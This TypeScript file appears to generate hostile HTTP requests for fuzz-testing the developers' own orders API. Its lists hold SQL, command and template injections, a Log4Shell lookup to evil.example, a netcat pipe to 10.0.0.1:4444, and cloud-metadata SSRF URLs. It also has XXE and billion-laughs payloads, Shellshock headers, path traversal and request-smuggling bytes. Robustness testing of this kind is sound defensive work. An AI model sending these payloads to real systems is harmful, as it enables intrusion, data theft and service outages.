import { deflateRawSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import type { RawRequest } from '../../cli/drill/client';

/** A request that no honest client sends, or bytes that no HTTP library would. */
export interface Hostile {
  /** Class of section 3 of the attack list. */
  readonly kind: string;
  readonly request?: RawRequest;
  /** Sent inside TLS as they are; `HOST` and `TOKEN` are filled in. */
  readonly bytes?: string;
}

/** A request that the API answers well, to be spoilt. */
export interface Base {
  readonly method: string;
  readonly path: string;
  readonly body?: Record<string, unknown>;
}

export const ORDER = 'ord-aaaaaaaa1';
export const LINE = 'lin-aaaaaaaa1';
const SHIP_TO = { name: 'Ada', street: 'Main Street 1', city: 'London', country: 'GB' };
export const NEW_ORDER = { reference: 'PO 4711', shipTo: SHIP_TO, lines: [{ sku: 'ABC-1', quantity: 2 }] };

export const BASES: readonly Base[] = [
  { method: 'GET', path: '/orders?limit=5' },
  { method: 'POST', path: '/orders', body: NEW_ORDER },
  { method: 'POST', path: '/orders/search', body: { text: 'boots', status: ['open'], minTotal: 1 } },
  { method: 'POST', path: '/orders/merge', body: { targetOrderId: ORDER, sourceOrderIds: [ORDER] } },
  { method: 'GET', path: `/orders/${ORDER}` },
  { method: 'PUT', path: `/orders/${ORDER}`, body: { reference: 'PO 1', shipTo: SHIP_TO } },
  { method: 'POST', path: `/orders/${ORDER}/lines`, body: { sku: 'ABC-1', quantity: 1 } },
  { method: 'PATCH', path: `/orders/${ORDER}/lines/${LINE}`, body: { quantity: 3, note: 'left door' } },
  {
    method: 'POST',
    path: `/admin/orders/${ORDER}/refund`,
    body: { amount: { amount: 100, currency: 'EUR' }, reason: 'broken' },
  },
];

const INJECTIONS: readonly string[] = [
  "' OR 1=1--",
  "x'; DROP TABLE orders; --",
  '1 UNION SELECT password FROM users',
  '; cat /etc/passwd',
  '$(curl http://169.254.169.254/)',
  '`id`',
  '| nc 10.0.0.1 4444',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{7*7}}${7*7}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '\u0000',
  '\ud800',
  '\u202e\u2066',
  '%00%0d%0aSet-Cookie: a=b',
  '\r\nX-Injected: 1',
  '(&(uid=*)(password=*))',
  "{'$gt': ''}",
  '() { :; }; echo vulnerable',
];
const URLS: readonly string[] = [
  'http://169.254.169.254/latest/meta-data/',
  'http://[::ffff:a9fe:a9fe]/',
  'http://2130706433/',
  'http://0x7f.1/',
  'http://localhost:6379/',
  'file:///etc/passwd',
  'gopher://127.0.0.1:25/',
  'https://user:pass@10.0.0.1/',
];
const NUMBERS: readonly unknown[] = [-1, 0, 1.5, 1e308, -0, 2 ** 53, 2 ** 53 + 2, 1e21, '9'.repeat(400), '0x10', ' 1'];
const STRANGE: readonly unknown[] = [
  null,
  true,
  [],
  {},
  [[]],
  '',
  ' ',
  'a'.repeat(5_000),
  { $ref: '#/x' },
  { toString: 1 },
];

const bases = fc.constantFrom(...BASES);
const withBody = fc.constantFrom(...BASES.filter(({ body }) => body !== undefined));
const hostileText = fc.oneof(fc.constantFrom(...INJECTIONS, ...URLS), fc.string({ unit: 'binary', maxLength: 60 }));
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileText,
  fc.constantFrom(...NUMBERS),
  fc.constantFrom(...STRANGE),
  fc.jsonValue({ maxDepth: 4 }),
);

type Header = readonly [string, string];
const JSON_TYPE: Header = ['Content-Type', 'application/json'];

const withText = (base: Base, text: string | Buffer, headers: readonly Header[] = [JSON_TYPE]): RawRequest => ({
  method: base.method,
  path: base.path,
  headers,
  body: Buffer.isBuffer(text) ? text : Buffer.from(text, 'utf8'),
});
const textOf = ({ body }: Base) => JSON.stringify(body ?? {});

/** Every place of a body, as the steps that lead there. */
function placesOf(value: unknown, at: readonly (string | number)[] = []): (string | number)[][] {
  const inner =
    typeof value === 'object' && value !== null
      ? Object.entries(value).flatMap(([name, member]) =>
          placesOf(member, [...at, Array.isArray(value) ? Number(name) : name]),
        )
      : [];
  return [[...at], ...inner];
}

function replaced(value: unknown, [step, ...rest]: readonly (string | number)[], by: unknown): unknown {
  if (step === undefined) return by;
  if (Array.isArray(value)) return value.map((each, index) => (index === step ? replaced(each, rest, by) : each));
  const members = value as Record<string, unknown>;
  return { ...members, [step]: replaced(members[step], rest, by) };
}

const values = fc.tuple(withBody, fc.nat(), hostileValue).map(([base, seed, value]): RawRequest => {
  const places = placesOf(base.body);
  const place = places[seed % places.length] as (string | number)[];
  return withText(base, JSON.stringify(replaced(base.body, place, value)) ?? 'null');
});

const MEMBERS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'isAdmin',
  'tenantId',
  '$where',
];
const members = fc
  .tuple(withBody, fc.constantFrom(...MEMBERS), hostileValue)
  .map(([base, name, value]) =>
    withText(base, textOf(base).replace(/^\{/, `{${JSON.stringify(name)}:${JSON.stringify(value) ?? 'null'},`)),
  );
const duplicates = fc.tuple(withBody, fc.boolean()).map(([base, last]) => {
  const [name, value] = Object.entries(base.body ?? {})[0] as [string, unknown];
  const again = `${JSON.stringify(name)}:${JSON.stringify(value)}`;
  return withText(base, last ? textOf(base).replace(/\}$/, `,${again}}`) : textOf(base).replace(/^\{/, `{${again},`));
});

const DEPTHS = [65, 500, 2_000, 20_000];
const depth = fc
  .tuple(withBody, fc.constantFrom(...DEPTHS), fc.constantFrom('{"a":', '[', '[{"a":'))
  .map(([base, n, open]) => {
    const close = [...open]
      .reverse()
      .map((char) => ({ '{': '}', '[': ']' })[char] ?? '')
      .join('');
    return withText(base, `${open.repeat(n)}1${close.repeat(n)}`);
  });

const malformed = fc
  .tuple(
    withBody,
    fc.oneof(
      fc.constantFrom(
        '',
        '{',
        '{"a"',
        '[1,]',
        "{'a':1}",
        'NaN',
        '\ufeff{}',
        '{"a":1}{"b":2}',
        'null',
        '"x"',
        '-',
        '1e999',
        '{"a":"\\ud800"}',
      ),
      fc.string({ unit: 'binary', maxLength: 300 }),
    ),
  )
  .map(([base, text]) => withText(base, text));
const bytes = fc
  .tuple(withBody, fc.uint8Array({ minLength: 1, maxLength: 300 }))
  .map(([base, raw]) => withText(base, Buffer.from(raw)));
const overlong = withBody.map((base) =>
  withText(
    base,
    Buffer.concat([Buffer.from('{"reference":"'), Buffer.from([0xc0, 0xaf, 0xed, 0xa0, 0x80]), Buffer.from('"}')]),
  ),
);

const TYPES: readonly (readonly string[])[] = [
  [],
  ['text/plain'],
  ['application/xml'],
  ['APPLICATION/JSON; charset=utf-16'],
  ['application/json; charset=utf-8; x="'],
  ['application/json, text/plain'],
  ['application/json', 'text/xml'],
  ['application/jsonx'],
  ['application/json;/../xml'],
  ['multipart/form-data; boundary=x'],
  ['application/x-www-form-urlencoded'],
  ['application/vnd.api+json'],
  ['*/*'],
  [''],
  ['/'],
  ['a'.repeat(4_000)],
];
const types = fc.tuple(withBody, fc.constantFrom(...TYPES)).map(([base, all]) =>
  withText(
    base,
    textOf(base),
    all.map((type): Header => ['Content-Type', type]),
  ),
);

const DTD = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>';
const BOMB = `<!DOCTYPE a [<!ENTITY a "aaaa">${Array.from({ length: 9 }, (_, n) => `<!ENTITY a${n} "&a${n || ''};&a${n || ''};">`).join('')}]><a>&a8;</a>`;
const xml = fc
  .tuple(
    withBody,
    fc.constantFrom(DTD, BOMB),
    fc.constantFrom('utf8', 'utf16le'),
    fc.constantFrom('application/xml', 'text/xml', 'application/json', 'image/svg+xml'),
  )
  .map(([base, text, encoding, type]) =>
    withText(base, Buffer.from(text, encoding as BufferEncoding), [['Content-Type', type]]),
  );

const SIZES = [2_049, 4_097, 16_385, 65_536, 65_537, 200_000, 1_500_000];
const sizes = fc.tuple(withBody, fc.constantFrom(...SIZES), fc.constantFrom(' ', 'pad')).map(([base, size, by]) => {
  const text = textOf(base);
  const rest = Math.max(0, size - text.length);
  return withText(base, by === ' ' ? ' '.repeat(rest) + text : `{"pad":"${'a'.repeat(rest)}",${text.slice(1)}`);
});
const encodings = fc
  .tuple(withBody, fc.constantFrom('gzip', 'deflate', 'br', 'x-gzip', 'identity, gzip'))
  .map(([base, encoding]) => {
    const packed = encoding === 'deflate' ? deflateRawSync(textOf(base)) : gzipSync('0'.repeat(500_000));
    return withText(base, packed, [JSON_TYPE, ['Content-Encoding', encoding]]);
  });

const PATHS: readonly string[] = [
  '/orders/%2e%2e/admin/orders',
  '/orders/../admin/orders/ord-aaaaaaaa1/refund',
  '//orders',
  '/orders//lines',
  '/orders/',
  '/orders/%2f',
  '/orders/ord-aaaaaaaa1%00',
  '/orders/ord-aaaaaaaa1%c0%af',
  '/orders/%ed%a0%80',
  '/orders/%',
  '/orders/%zz',
  '/orders;x=1',
  '/Orders',
  '/orders/ord-aaaaaaaa1/..;/lines',
  `/orders/${'a'.repeat(900)}`,
  `/orders/${'a'.repeat(7_000)}`,
  '/orders/ord-aaaaaaaa1?orderId=ord-bbbbbbbb2',
  '/%6frders',
  '/live/orders',
  '/.git/config',
  '/orders/*',
  '/orders/{orderId}',
];
const paths = fc
  .tuple(fc.constantFrom('GET', 'POST', 'PUT', 'DELETE'), fc.constantFrom(...PATHS))
  .map(([method, path]): RawRequest => ({ method, path, headers: [] }));
const segments = fc.string({ unit: 'binary', maxLength: 40 }).map(
  (text): RawRequest => ({
    method: 'GET',
    path: `/orders/${encodeURIComponent(text.replace(/\p{Surrogate}/gu, '?'))}`,
    headers: [],
  }),
);

const NAMES = [
  'limit',
  'status',
  'Limit',
  'limit[]',
  'limit[$gt]',
  '__proto__',
  '__proto__[a]',
  'constructor',
  'q',
  'limit%00',
  '',
];
const queryPart = fc.tuple(
  fc.constantFrom(...NAMES),
  fc.oneof(hostileText, fc.constantFrom('1', '5', '1e9', '-1', 'open')),
);
const queries = fc.array(queryPart, { minLength: 1, maxLength: 5 }).map((parts): RawRequest => {
  const query = parts
    .map(([name, value]) => `${name}=${encodeURIComponent(value.replace(/\p{Surrogate}/gu, '?'))}`)
    .join('&');
  return { method: 'GET', path: `/orders?${query}`, headers: [] };
});
const RAW_QUERIES = [
  'limit=1&limit=2',
  'limit',
  '&&&',
  '=',
  'limit=%',
  'limit=%zz',
  'limit=%00',
  'limit=1;status=open',
  `x=${'a'.repeat(3_000)}`,
  'limit=1%262',
  '?limit=1',
];
const rawQueries = fc
  .constantFrom(...RAW_QUERIES)
  .map((query): RawRequest => ({ method: 'GET', path: `/orders?${query}`, headers: [] }));

const HEADERS: readonly Header[] = [
  ['X-HTTP-Method-Override', 'DELETE'],
  ['X-Original-URL', '/admin'],
  ['X-Rewrite-URL', '/admin'],
  ['X-Forwarded-For', '127.0.0.1'],
  ['X-Forwarded-Host', 'evil.example'],
  ['Forwarded', 'for=127.0.0.1;host=evil.example'],
  ['X-Amzn-Waf-Trusted', '1'],
  ['Accept', 'text/html,*/*;q=evil'],
  ['Accept-Encoding', `gzip, ${'a,'.repeat(500)}`],
  ['Range', `bytes=${'0-,'.repeat(500)}0-`],
  ['If-Match', '"'.repeat(1_000)],
  ['Cookie', '__proto__=1; a='],
  ['Expect', '200-ok'],
  ['User-Agent', '() { :; }; /bin/bash -c id'],
  ['Referer', '<script>alert(1)</script>'],
  ['Transaction-Token', 'e30.e30.e30'],
  ['Authorization', 'Bearer x.y.z'],
];
const headers = fc.tuple(bases, fc.subarray([...HEADERS], { minLength: 1, maxLength: 4 })).map(
  ([base, extra]): RawRequest => ({
    method: base.method,
    path: base.path,
    headers: [...(base.body ? [JSON_TYPE] : []), ...extra],
    ...(base.body && { body: Buffer.from(textOf(base)) }),
  }),
);
const methods = fc
  .tuple(bases, fc.constantFrom('HEAD', 'OPTIONS', 'TRACE', 'PATCH', 'DELETE', 'PROPFIND', 'SEARCH', 'PURGE'))
  .map(([base, method]): RawRequest => ({ method, path: base.path, headers: [] }));

const JSON_HEAD = 'Host: HOST\r\nAuthorization: Bearer TOKEN\r\nUser-Agent: raw\r\nContent-Type: application/json\r\n';
const WIRE: readonly string[] = [
  `GET /orders\u0000 HTTP/1.1\r\n${JSON_HEAD}\r\n`,
  `GET /orders HTTP/1.1\r\n${JSON_HEAD}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\n\r\n`,
  `POST /orders HTTP/1.1\r\n${JSON_HEAD}Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}x`,
  `POST /orders HTTP/1.1\r\n${JSON_HEAD}Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n`,
  `POST /orders HTTP/1.1\r\n${JSON_HEAD}Transfer-Encoding: xchunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n`,
  `POST /orders HTTP/1.1\r\n${JSON_HEAD}Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n0\r\n\r\n`,
  `POST /orders HTTP/1.1\r\n${JSON_HEAD}Content-Length: -1\r\n\r\n{}`,
  `GET /orders HTTP/1.1\r\nHost: HOST\r\nHost: evil.example\r\n\r\n`,
  'GET /orders HTTP/1.1\r\n\r\n',
  'GET /orders HTTP/9.9\r\nHost: HOST\r\n\r\n',
  'GET\r\n\r\n',
  `GET /orders HTTP/1.1\r\n${JSON_HEAD}X-A : b\r\n\r\n`,
  `GET /orders HTTP/1.1\r\n${JSON_HEAD}X-A: ${'a'.repeat(20_000)}\r\n\r\n`,
  `GET /orders HTTP/1.1\r\n${JSON_HEAD}${'X-A: b\r\n'.repeat(400)}\r\n`,
  `GET /orders HTTP/1.1\r\n${JSON_HEAD}X-A: b\u0001c\r\n\r\n`,
  `GET http://evil.example/orders HTTP/1.1\r\n${JSON_HEAD}\r\n`,
  'CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: HOST\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
];

const kinds: Readonly<Record<string, fc.Arbitrary<RawRequest>>> = {
  'values out of their schema': values,
  'members that nobody asked for': members,
  'duplicate members': duplicates,
  nesting: depth,
  'malformed JSON': malformed,
  'bytes that are no text': fc.oneof(bytes, overlong),
  'content types': types,
  'XML with document types': xml,
  'sizes and padding': sizes,
  encodings,
  paths: fc.oneof(paths, segments),
  queries: fc.oneof(queries, rawQueries),
  headers,
  methods,
};

/** As many hostile requests as wanted, of every class alike; the same ones for the same seed. */
export function hostileRequests(count: number, seed: number): Hostile[] {
  const all = Object.entries(kinds);
  const each = Math.ceil((count * 0.97) / all.length);
  const made = all.flatMap(([kind, arbitrary], index) =>
    fc.sample(arbitrary, { numRuns: each, seed: seed + index }).map((request): Hostile => ({ kind, request })),
  );
  const wire = Array.from(
    { length: Math.max(0, count - made.length) },
    (_, index): Hostile => ({ kind: 'malformed HTTP', bytes: WIRE[index % WIRE.length] as string }),
  );
  return [...made, ...wire].slice(0, count);
}
